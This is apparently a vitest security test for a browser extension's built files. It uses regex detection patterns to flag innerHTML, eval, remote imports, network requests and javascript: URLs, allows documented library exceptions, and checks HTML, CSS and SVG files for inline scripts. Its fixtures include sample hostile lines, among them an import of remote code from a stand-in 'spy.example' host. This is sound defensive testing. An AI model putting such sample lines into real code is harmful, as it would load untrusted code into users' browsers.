import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { builtPackage } from '#scripts/built-package.ts';
import { filesIn } from '#scripts/files-in.ts';

/** What the built files could do to markup, code and hosts. Each place is a library's and has its reason; any other fails. */

interface Exception {
  /** What stands around it. Minified names change, names of properties do not. */
  readonly around: RegExp;
  readonly why: string;
}

const readability: Exception = {
  around:
    /_serializer|_allowedVideoRegex|Starting grabArticle|Article content|Grabbed: |_article|pageCacheHtml/,
  why: '@mozilla/readability reads and puts back markup of a copy of the article that belongs to no window: nothing in it runs or loads',
};
const preact: Exception = {
  around: /\.__html\b/,
  why: 'preact, for dangerouslySetInnerHTML, which nothing of ours has (the linter), and which Trusted Types refuse',
};
const papaparse: Exception = {
  around: /withCredentials|_readChunk|_finished/,
  why: 'papaparse, for `download: true`, which it is never given',
};
const citeproc: Exception = {
  around: /XmlDOM|docco|children\[0\]|ActiveX|MSXML|Microsoft|text\/xml|innerText|importNode|createElement/,
  why: 'citeproc and what reads its styles where there is a document; it runs in a worker, which has none, and is given styles as JSON',
};

/** The one place of ours that asks somebody (src/sync/ask-server.ts): a server that the reader has set up. */
const ownServer: Exception = {
  around:
    /credentials:"omit"|referrerPolicy:"no-referrer"|redirect:"error"|authorization:|AbortSignal\.timeout/,
  why: 'sync: the reader’s own server, once one is set up and its address is allowed',
};

const findings: readonly { readonly what: string; readonly code: RegExp; readonly but: readonly Exception[] }[] = [
  { what: 'markup from text', code: /\b(?:inner|outer)HTML\b|insertAdjacentHTML|createContextualFragment|HTMLUnsafe/g, but: [readability, preact, citeproc] },
  { what: 'a parser of markup', code: /\bDOMParser\b|parseFromString/g, but: [readability, citeproc] },
  { what: 'a document that is written', code: /document\.write/g, but: [] },
  { what: 'code from text', code: /\beval\(|\bnew Function\b|(?<![\w.$])Function\(|set(?:Timeout|Interval)\(["'`]/g, but: [] },
  { what: 'code from elsewhere', code: /\bimportScripts\b|\bimport\(|from\s*["'`](?:https?:|\/\/)/g, but: [] },
  { what: 'a request', code: /(?<![\w.$])fetch\(|\bnew (?:XMLHttpRequest|WebSocket|EventSource|WebTransport)\b|sendBeacon/g, but: [papaparse, citeproc, ownServer] },
  { what: 'an address that runs', code: /["'`]\s*(?:javascript|vbscript):/gi, but: [] },
]; // prettier-ignore

/** Places of a script that nothing explains, with what stands around them; counts those that are explained. */
function unexplained(code: string, used: Map<string, number>): readonly string[] {
  return findings.flatMap(({ what, code: pattern, but }) =>
    [...code.matchAll(pattern)].flatMap(({ index }) => {
      const around = code.slice(Math.max(0, index - 140), index + 140);
      const reason = but.find((exception) => exception.around.test(around));
      if (reason === undefined) return [`${what}: ${around}`];
      used.set(reason.why, (used.get(reason.why) ?? 0) + 1);
      return [];
    }),
  );
}

describe.each(['chrome', 'firefox'] as const)('the built files for %s', (browser) => {
  const all = filesIn(builtPackage(browser));
  const textOf = (extension: string): readonly { path: string; text: string }[] =>
    all
      .filter((path) => path.endsWith(extension))
      .map((path) => ({ path, text: readFileSync(path, 'utf8') }));

  it('make no markup or code of text, and ask no host, but where a library could and does not', () => {
    const used = new Map<string, number>();
    const scripts = textOf('.js');
    expect(scripts.length).toBeGreaterThan(20);
    const found = scripts.flatMap(({ path, text }) =>
      unexplained(text, used).map((line) => `${path}: ${line}`),
    );
    expect(found).toEqual([]);
    // A reason that nothing needs any more is to be struck out.
    expect([...used.keys()].toSorted()).toEqual(
      [readability.why, preact.why, papaparse.why, citeproc.why, ownServer.why].toSorted(),
    );
  });

  it('hold pages that have files for scripts and sheets, and no handler or style of their own', () => {
    const pages = textOf('.html');
    expect(pages).toHaveLength(6);
    for (const { path, text } of pages) {
      for (const [, attributes = '', inner] of text.matchAll(/<script\b([^>]*)>([^]*?)<\/script>/g)) {
        expect(inner, path).toBe('');
        expect(attributes, path).toMatch(/\ssrc="\/[\w./-]+\.js"/);
      }
      expect(text, path).not.toMatch(
        /\s(?:on\w+|style|srcdoc)=|<style|<base|<iframe|(?:src|href)="(?:[a-z]+:|\/\/)/i,
      );
    }
  });

  it('hold sheets that load nothing', () => {
    const sheets = textOf('.css');
    expect(sheets.length).toBeGreaterThan(5);
    for (const { path, text } of sheets) expect(text, path).not.toMatch(/@import|url\(/);
  });

  it('hold pictures without script', () => {
    for (const { path, text } of textOf('.svg'))
      expect(text, path).not.toMatch(/<script|<foreignObject|\son\w+=|(?:href|src)="(?!#)/i);
  });
});

describe('the scan', () => {
  it.each([
    'a.innerHTML=b',
    'x.outerHTML',
    'eval("1")',
    'new Function("a")',
    'Function("return this")()',
    'setTimeout("a()",1)',
    'import("https://spy.example/a.js")',
    'fetch("/a")',
    'new WebSocket(a)',
    'navigator.sendBeacon(a)',
    'a.href="javascript:1"',
    'new DOMParser',
    'document.write(a)',
  ])('finds %s', (code) => {
    expect(unexplained(`const a=1;${code};`, new Map())).toHaveLength(1);
  });
});
